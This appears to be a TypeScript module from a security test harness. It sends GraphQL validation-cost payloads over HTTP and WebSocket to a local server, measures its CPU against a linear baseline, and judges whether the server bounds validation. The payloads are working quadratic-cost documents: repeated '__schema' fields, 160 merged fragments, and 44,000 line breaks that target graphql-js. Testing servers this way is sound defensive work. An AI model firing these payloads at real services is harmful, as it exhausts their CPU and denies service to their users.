import { Socket } from 'node:net';
import { cpuMs } from './processWatch';
import type { Attack, AttackContext, AttackOutcome } from './types';
import { acknowledged, type WsSession, wsSession } from './graphqlWs';
import { clientFrame, jsonPost, sleep } from './wire';

/**
 * Connections the attack sends on at once, all from its one address. Few: a server without the
 * bound still validates what is under way when the attack stops early, seconds on a busy machine.
 */
const CONNECTIONS = 2;
/** Requests each connection sends, each once the answer to the last has begun (keep-alive). */
const PER_CONNECTION = 4;
export const REQUESTS = CONNECTIONS * PER_CONNECTION;
/**
 * The most CPU a server may spend on one request of the attack beyond what it spends on a
 * request of the same size that validation handles in linear time. Every other client waits
 * while it does. A server that counts the pairs before `validate` spends less than the
 * baseline (it refuses without validating); without the count, graphql 16.15.0 spent 12 to
 * 70 ms more on 140 copies and 70 to 180 ms more on 280 (17.1.0: more). CPU time, unlike a
 * wait, hardly grows with the machine's load.
 */
export const EXTRA_CPU_PER_REQUEST_MS = 5;
/** How long the answers may take to come. */
const ANSWERS_MS = 8000;

export interface Spent {
  answered: number;
  /** CPU the server spent meanwhile, in ms. */
  cpu: number;
  /** It passed `stopAboveMs` before every request was answered. */
  stopped: boolean;
  /** ANSWERS_MS passed before every request was answered: on a busy machine, the server may not have had the CPU. */
  timedOut: boolean;
}

/**
 * Sends the query REQUESTS times over CONNECTIONS keep-alive connections, and measures the CPU
 * the server spent meanwhile. Stops early once it passes `stopAboveMs`: the next request on a
 * connection goes only once the last one is answered, so at most CONNECTIONS more still run.
 */
export function cpuForRequests({ target, from }: AttackContext, query: string, stopAboveMs: number): Promise<Spent> {
  // Keep-alive: `jsonPost` closes after one request, so its `Connection: close` goes.
  const request = jsonPost(target.graphqlPath, { query }, target.headers)
    .toString('latin1')
    .replace('Connection: close\r\n', '');
  const cpuBefore = cpuMs(target.pid) ?? 0;
  const spent = () => (cpuMs(target.pid) ?? cpuBefore) - cpuBefore;
  return new Promise((resolve) => {
    const sockets: Socket[] = [];
    let answered = 0;
    let open = CONNECTIONS;
    const finish = (how: Partial<Pick<Spent, 'stopped' | 'timedOut'>> = {}) => {
      clearTimeout(timer);
      for (const socket of sockets) socket.destroy();
      resolve({ answered, cpu: spent(), stopped: false, timedOut: false, ...how });
    };
    const timer = setTimeout(() => finish({ timedOut: true }), ANSWERS_MS);
    for (let index = 0; index < CONNECTIONS; index++) {
      const socket = new Socket();
      sockets.push(socket);
      let sent = 1;
      let tail = '';
      socket.on('data', (chunk: Buffer) => {
        // Status lines may straddle chunks: keep the end of the last one.
        const text = tail + chunk.toString('latin1');
        const answers = text.match(/HTTP\/1\.1 \d{3} /g)?.length ?? 0;
        tail = text.slice(-16);
        answered += answers;
        if (answered >= REQUESTS) return finish();
        if (spent() > stopAboveMs) return finish({ stopped: true });
        for (let next = 0; next < answers && sent < PER_CONNECTION; next++, sent++) socket.write(request);
      });
      socket.once('close', () => {
        open -= 1;
        if (open === 0) finish();
      });
      socket.on('error', () => socket.destroy());
      socket.connect({ port: target.port, host: '127.0.0.1', localAddress: from }, () => socket.write(request));
    }
  });
}

/** Sends a query REQUESTS times and measures the CPU the server spent; null when the server takes no such requests. */
type Sender = (context: AttackContext, query: string, stopAboveMs: number) => Promise<Spent | null>;

/**
 * As `cpuForRequests`, over WebSocket: CONNECTIONS graphql-transport-ws sessions, each sending its next
 * `subscribe` once the last one is answered. A server that takes operations over WebSocket must bound
 * them there too: its HTTP side may answer every request with a 404. Null when no session is acknowledged.
 */
export async function cpuForOperations(
  context: AttackContext,
  query: string,
  stopAboveMs: number,
): Promise<Spent | null> {
  const sessions: WsSession[] = [];
  for (let index = 0; index < CONNECTIONS; index++) {
    const session = await wsSession(context);
    if (session && (await acknowledged(session))) sessions.push(session);
  }
  if (sessions.length === 0) return null;
  const { pid } = context.target;
  const cpuBefore = cpuMs(pid) ?? 0;
  const spent = () => (cpuMs(pid) ?? cpuBefore) - cpuBefore;
  const deadline = Date.now() + ANSWERS_MS;
  const answeredIn = (session: WsSession) => session.messages.filter(isAnswer).length;
  const sent = sessions.map(() => 0);
  const send = (session: WsSession, index: number) => {
    const message = { id: `v${sent[index]}`, type: 'subscribe', payload: { query } };
    session.ws.socket.write(clientFrame(JSON.stringify(message)));
    sent[index] = (sent[index] ?? 0) + 1;
  };
  sessions.forEach(send);
  let stopped = false;
  while (Date.now() < deadline) {
    const answered = sessions.reduce((sum, session) => sum + answeredIn(session), 0);
    if (answered >= sessions.length * PER_CONNECTION || sessions.every((session) => session.closed())) break;
    if (spent() > stopAboveMs) {
      stopped = true;
      break;
    }
    sessions.forEach((session, index) => {
      if (!session.closed() && answeredIn(session) === sent[index] && sent[index] < PER_CONNECTION)
        send(session, index);
    });
    await sleep(5);
  }
  const answered = sessions.reduce((sum, session) => sum + answeredIn(session), 0);
  for (const session of sessions) session.ws.socket.destroy();
  return { answered, cpu: spent(), stopped, timedOut: !stopped && Date.now() >= deadline };
}

/** The message that ends an operation: its `complete`, or the `error` refusing it. */
const isAnswer = (message: string) => /"type":"(complete|error)"/.test(message);

/**
 * Judges the server by the CPU it spent per request of the query, beyond a baseline: as many
 * requests of the baseline query first (which also warms the server's parser up).
 */
export async function judgedByCpu(
  context: AttackContext,
  query: string,
  baseline: string,
  send: Sender = cpuForRequests,
): Promise<AttackOutcome> {
  // CPU time comes in clock ticks of 10 ms, and a garbage collection left by an earlier attack
  // can land in the window: one measure over the bound is measured again, and a server falls
  // only when both are over it. One without the bound is over it by ten times, every time: a
  // measure that far over needs no second.
  const first = await cpuBeyondBaseline(context, query, baseline, send);
  return first.held || first.extraMs >= FAR_OVER * EXTRA_CPU_PER_REQUEST_MS
    ? first
    : cpuBeyondBaseline(context, query, baseline, send);
}

/** How many times over the bound one measure must be to settle a fall alone: noise adds a few ms, a missing bound tens. */
const FAR_OVER = 4;

/** One measure's verdict, and the CPU each answered attack request cost beyond one of the baseline's. */
type Measured = AttackOutcome & { extraMs: number };

/** One measure: the baseline's requests, then the attack's, and the CPU each attack request cost beyond one of the baseline's. */
async function cpuBeyondBaseline(
  context: AttackContext,
  query: string,
  baseline: string,
  send: Sender,
): Promise<Measured> {
  const refused = { held: true, detail: 'WebSocket handshake or connection refused', extraMs: 0 };
  const usual = await send(context, baseline, Number.POSITIVE_INFINITY);
  if (usual === null) return refused;
  const sent = `${REQUESTS} requests of ${(query.length / 1024).toFixed(1)} kB`;
  if (usual.answered === 0 && usual.timedOut)
    return { held: false, detail: `no answer within ${ANSWERS_MS / 1000} s`, extraMs: 0 };
  const usualEach = usual.cpu / Math.max(usual.answered, 1);
  const attack = await send(context, query, usual.cpu + EXTRA_CPU_PER_REQUEST_MS * REQUESTS);
  if (attack === null) return refused;
  // Per answer, not per request sent: a server that a busy machine kept from answering them all
  // in time is judged by what it spent on those it did answer.
  const extra = attack.cpu / Math.max(attack.answered, 1) - usualEach;
  if (attack.stopped) {
    const over = `${EXTRA_CPU_PER_REQUEST_MS * REQUESTS} ms more CPU than as many requests of a linear document`;
    // The requests still under way spent CPU too: counted as answered, the cost each is not overstated.
    const extraAtMost = attack.cpu / (attack.answered + CONNECTIONS) - usualEach;
    return { held: false, detail: `${sent}: over ${over} after ${attack.answered} answers`, extraMs: extraAtMost };
  }
  if (attack.answered === 0 && attack.timedOut) return { held: false, detail: `${sent}: none answered`, extraMs: 0 };
  const held = extra <= EXTRA_CPU_PER_REQUEST_MS;
  const cpu = `${Math.max(extra, 0).toFixed(0)} ms more CPU each than a linear document's`;
  return {
    held,
    detail: `${sent}, ${attack.answered} answered: ${cpu} (bound ${EXTRA_CPU_PER_REQUEST_MS})`,
    extraMs: extra,
  };
}

const copies = (count: number, selection: string) => Array.from({ length: count }, () => selection).join(' ');
/** A document validation handles in linear time, of `tokens` tokens: distinct aliases of `__typename`. */
export const linear = (tokens: number) =>
  `{ ${Array.from({ length: Math.floor((tokens - 2) / 3) }, (_, index) => `a${index}: __typename`).join(' ')} }`;
/** One field with a selection under one key, on any schema: `__schema` is in every one, with introspection off too. */
const INTROSPECTED = '__schema { types { name } }';

/**
 * Small, valid documents whose validation costs the square of their size: graphql-js's
 * OverlappingFieldsCanBeMergedRule compares every two fields under one response key, and every
 * two fragments spread into one object. Each fits a token limit of 2,000 or 1,000.
 */
export const validationCostAttacks: Attack[] = [
  {
    // 1,962 tokens: 117,180 pairs to compare.
    name: 'validation-repeated-field',
    family: 'validation-cost',
    run: (context) => judgedByCpu(context, `{ ${copies(280, INTROSPECTED)} }`, linear(1962)),
  },
  {
    // 982 tokens, for a server that stops at 1,000: 29,190 pairs.
    name: 'validation-repeated-field-1000-tokens',
    family: 'validation-cost',
    run: (context) => judgedByCpu(context, `{ ${copies(140, INTROSPECTED)} }`, linear(982)),
  },
  {
    // The first attack's document over WebSocket, where a server's HTTP side (a 404, say) does not see it.
    name: 'validation-repeated-field-ws',
    family: 'validation-cost',
    run: (context) => judgedByCpu(context, `{ ${copies(280, INTROSPECTED)} }`, linear(1962), cpuForOperations),
  },
  {
    // The same field under one key through 160 named fragments (1,924 tokens): a count that
    // looked at each selection set alone would see one field in each.
    name: 'validation-fragments-merged',
    family: 'validation-cost',
    run: (context) => {
      const names = Array.from({ length: 160 }, (_, index) => `F${index}`);
      const spreads = names.map((name) => `...${name}`).join(' ');
      const fragments = names.map((name) => `fragment ${name} on __Schema { types { name } }`).join(' ');
      return judgedByCpu(context, `{ __schema { ${spreads} } } ${fragments}`, linear(1924));
    },
  },
  {
    // Line breaks are not tokens: 44,000 of them (88 kB as JSON), then one field whose argument repeats
    // 650 times (1,954 tokens). Every error validation reports finds its line by counting the line breaks
    // from the start of the document: ten errors, 60 to 100 ms of a server's CPU per request. The baseline
    // is the same document after as many bytes of spaces, so only the line breaks cost more.
    name: 'validation-line-breaks',
    family: 'validation-cost',
    run: (context) => {
      const field = `{ __type(${'name: a '.repeat(650)}) { name } }`;
      return judgedByCpu(context, `${'\r'.repeat(44_000)}${field}`, `${' '.repeat(88_000)}${field}`);
    },
  },
];
